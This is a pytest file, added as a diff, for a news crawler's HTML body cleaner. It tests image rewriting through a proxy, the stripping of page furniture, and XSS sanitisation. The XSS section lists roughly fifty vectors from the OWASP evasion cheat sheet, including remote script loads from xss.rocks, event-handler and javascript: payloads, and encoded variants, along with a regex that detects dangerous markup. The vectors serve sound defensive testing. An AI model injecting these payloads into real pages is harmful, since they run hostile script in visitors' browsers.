@@ -1,0 +1,191 @@
+"""Body cleaning: lazy images, URLs, furniture, the proxy rewrite, and XSS."""
+
+from __future__ import annotations
+
+import re
+
+import pytest
+
+from newscrawler import settings
+from newscrawler.body import BodyCleaner
+from newscrawler.replica.content import seed_body
+from tests.conftest import FIXTURES
+
+PROXY = "https://cors.zfour.workers.dev/?"
+PAGE = "http://html2.qktoutiao.com/detail/2021/07/08/1.html"
+
+
+@pytest.fixture(scope="module")
+def cleaner() -> BodyCleaner:
+    return BodyCleaner(settings.BODY_DROP_SELECTORS, PROXY)
+
+
+def seed_post_body() -> str:
+    post = (FIXTURES / "qutoutiao-hexo-post.md").read_text(encoding="utf-8")
+    return post.split("<div>   \n", 1)[1].rsplit("  \n</div>", 1)[0]
+
+
+def test_seed_body_byte_for_byte(cleaner: BodyCleaner) -> None:
+    body = cleaner.clean(seed_body(), PAGE)
+    assert body.html == seed_post_body()
+    assert body.image_urls[0] == "http://static.1sapp.com/qupost/img/2021/07/08/73e5bc44a5672dabf307650daa9f1f51.jpeg"
+    assert len(body.image_urls) == 4
+    assert body.text.startswith("最 新 消 息\n国务院常务会议：\n")
+    assert "分享到微信" not in body.text and "share" not in body.html
+
+
+def test_cleaning_twice_changes_nothing(cleaner: BodyCleaner) -> None:
+    once = cleaner.clean(seed_body(), PAGE)
+    twice = cleaner.clean(once.html, PAGE)
+    assert (twice.html, twice.image_urls, twice.text) == (once.html, once.image_urls, once.text)
+
+
+@pytest.mark.parametrize(
+    ("fragment", "expected_html", "originals"),
+    [
+        # lazy image, placeholder src replaced in place
+        ('<img class="lazy" src="//s.cn/loading.gif" data-src="http://s.cn/a.jpg" data-size="1,2">',
+         f'<img src="{PROXY}http://s.cn/a.jpg" data-size="1,2" referrerpolicy="no-referrer">', ["http://s.cn/a.jpg"]),
+        # lazy image without src: src takes data-src's place
+        ('<img data-src="http://s.cn/a.jpg" data-size="3,4">',
+         f'<img src="{PROXY}http://s.cn/a.jpg" data-size="3,4" referrerpolicy="no-referrer">', ["http://s.cn/a.jpg"]),
+        ('<img alt="x" data-original="http://s.cn/b.png">',
+         f'<img alt="x" src="{PROXY}http://s.cn/b.png" referrerpolicy="no-referrer">', ["http://s.cn/b.png"]),
+        # protocol-relative and relative become absolute against the page
+        ('<img src="//static.1sapp.com/c.jpg">',
+         f'<img src="{PROXY}http://static.1sapp.com/c.jpg" referrerpolicy="no-referrer">', ["http://static.1sapp.com/c.jpg"]),
+        ('<img src="/img/d.jpg" width="10">',
+         f'<img src="{PROXY}http://html2.qktoutiao.com/img/d.jpg" width="10" referrerpolicy="no-referrer">',
+         ["http://html2.qktoutiao.com/img/d.jpg"]),
+        ('<img src="e.jpg">',
+         f'<img src="{PROXY}http://html2.qktoutiao.com/detail/2021/07/08/e.jpg" referrerpolicy="no-referrer">',
+         ["http://html2.qktoutiao.com/detail/2021/07/08/e.jpg"]),
+        # already proxied: left alone, original recovered
+        (f'<img src="{PROXY}http://s.cn/f.jpg" referrerpolicy="no-referrer">',
+         f'<img src="{PROXY}http://s.cn/f.jpg" referrerpolicy="no-referrer">', ["http://s.cn/f.jpg"]),
+        # https stays https; an old referrerpolicy moves last
+        ('<img referrerpolicy="origin" src="https://s.cn/g.jpg" alt="g">',
+         f'<img src="{PROXY}https://s.cn/g.jpg" alt="g" referrerpolicy="no-referrer">', ["https://s.cn/g.jpg"]),
+        # a data: URI that only stood in for nothing: the image goes
+        ('<p>a<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">b</p>', "<p>ab</p>", []),
+        ('<p><img src="data:image/gif;base64,R0lG" data-src="http://s.cn/h.jpg"></p>',
+         f'<p><img src="{PROXY}http://s.cn/h.jpg" referrerpolicy="no-referrer"></p>', ["http://s.cn/h.jpg"]),
+        ('<img src="javascript:alert(1)">', "", []),
+        ("<p>x<img></p>", "<p>x</p>", []),
+        # the same image twice is downloaded once
+        ('<img src="http://s.cn/i.jpg"><img src="http://s.cn/i.jpg">',
+         f'<img src="{PROXY}http://s.cn/i.jpg" referrerpolicy="no-referrer">' * 2, ["http://s.cn/i.jpg"]),
+    ],
+)
+def test_images(cleaner: BodyCleaner, fragment: str, expected_html: str, originals: list[str]) -> None:
+    body = cleaner.clean(fragment, PAGE)
+    assert body.html == expected_html
+    assert body.image_urls == originals
+
+
+def test_empty_proxy_turns_rewriting_off() -> None:
+    body = BodyCleaner([], "").clean('<img data-src="http://s.cn/a.jpg">', PAGE)
+    assert body.html == '<img src="http://s.cn/a.jpg" referrerpolicy="no-referrer">'
+
+
+@pytest.mark.parametrize(
+    ("fragment", "expected"),
+    [
+        ('<p>keep</p><div class="share-box"><a href="#">分享</a></div><p>this</p>', "<p>keep</p><p>this</p>"),
+        ('<p>a</p><div class="ad-box" id="ad_1"><script>x()</script>广告</div>', "<p>a</p>"),
+        ("<p>a</p><style>p{}</style><noscript>n</noscript><form><input></form>", "<p>a</p>"),
+        ('<p><a href="/other.html">rel</a></p>',
+         '<p><a href="http://html2.qktoutiao.com/other.html" rel="noopener noreferrer">rel</a></p>'),
+        ("<h2>t</h2><ul><li>1</li></ul><blockquote>q</blockquote><table><tbody><tr><td>c</td></tr></tbody></table>",
+         "<h2>t</h2><ul><li>1</li></ul><blockquote>q</blockquote><table><tbody><tr><td>c</td></tr></tbody></table>"),
+        ('<figure><img src="http://s.cn/a.jpg"><figcaption>cap</figcaption></figure>',
+         f'<figure><img src="{PROXY}http://s.cn/a.jpg" referrerpolicy="no-referrer"><figcaption>cap</figcaption></figure>'),
+        ('<section class="x"><span style="color:red">plain</span></section>', "plain"),
+        ("   \n  ", ""),
+    ],
+)
+def test_furniture_and_allowlist(cleaner: BodyCleaner, fragment: str, expected: str) -> None:
+    assert cleaner.clean(fragment, PAGE).html == expected
+
+
+# The OWASP XSS filter evasion cheat sheet, as much of it as fits a body.
+XSS_VECTORS = [
+    "<script>alert('XSS')</script>",
+    '<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>',
+    "<IMG SRC=\"javascript:alert('XSS');\">",
+    "<IMG SRC=javascript:alert('XSS')>",
+    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
+    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
+    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
+    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
+    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
+    '<IMG SRC= onmouseover="alert(\'xxs\')">',
+    '<IMG onmouseover="alert(\'xxs\')">',
+    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
+    "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041\">",
+    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
+    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
+    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
+    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
+    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
+    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
+    '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
+    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
+    "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
+    '<SCRIPT SRC=http://xss.rocks/xss.js?< B >',
+    '<iframe src=http://xss.rocks/scriptlet.html <',
+    "<a href=\"javascript:alert('XSS')\">link</a>",
+    "<a href=\"JaVaScRiPt:alert('XSS')\">link</a>",
+    "<a href=\"&#106;avascript:alert('XSS')\">link</a>",
+    "<a href=\"vbscript:msgbox('XSS')\">link</a>",
+    "<a href=\"  javascript:alert(1)\">link</a>",
+    '<svg/onload=alert("XSS")>',
+    '<svg><script>alert(1)</script></svg>',
+    '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>',
+    '<IFRAME SRC="javascript:alert(\'XSS\');"></IFRAME>',
+    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
+    '<math href="javascript:alert(1)">CLICKME</math>',
+    '<DIV STYLE="width: expression(alert(\'XSS\'));">x</DIV>',
+    '<IMG STYLE="xss:expr/*XSS*/ession(alert(\'XSS\'))">',
+    '<p style="background-image: url(javascript:alert(1))">bg</p>',
+    '<BASE HREF="javascript:alert(\'XSS\');//">',
+    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
+    '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
+    '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
+    '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
+    '<TABLE BACKGROUND="javascript:alert(\'XSS\')"><tr><TD BACKGROUND="javascript:alert(\'XSS\')">t</TD></tr></TABLE>',
+    '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
+    '<STYLE>@import\'http://xss.rocks/xss.css\';</STYLE>',
+    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
+    '<BGSOUND SRC="javascript:alert(\'XSS\');">',
+    '<form action="javascript:alert(1)"><button>go</button></form>',
+    '<video><source onerror="alert(1)"></video>',
+    '<details open ontoggle=alert(1)>',
+    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">d</a>',
+    '<!--<script>alert(1)</script>--><p>after comment</p>',
+    '<img src="http://s.cn/ok.jpg" onload="alert(1)" onerror=alert(2)>',
+]
+DANGEROUS = re.compile(
+    r"<\s*(script|iframe|object|embed|svg|math|base|meta|link|style|form|input|frame|applet|bgsound)\b"
+    r"|\son[a-z]+\s*=|javascript:|vbscript:|data:text|expression\(|srcdoc|<!--",
+    re.IGNORECASE,
+)
+
+
+def test_at_least_25_vectors() -> None:
+    assert len(XSS_VECTORS) >= 25
+
+
+@pytest.mark.parametrize("vector", XSS_VECTORS)
+def test_xss_vector_is_gone(cleaner: BodyCleaner, vector: str) -> None:
+    html = cleaner.clean(f"<p>before</p>{vector}<p>after</p>", PAGE).html
+    assert not DANGEROUS.search(html), html
+    for src in re.findall(r'src="([^"]*)"', html):
+        assert src.startswith(PROXY + "http"), html
+    for href in re.findall(r'href="([^"]*)"', html):
+        assert href.startswith(("http://", "https://")), html
+
+
+def test_all_vectors_in_one_body(cleaner: BodyCleaner) -> None:
+    html = cleaner.clean("".join(XSS_VECTORS), PAGE).html
+    assert not DANGEROUS.search(html)
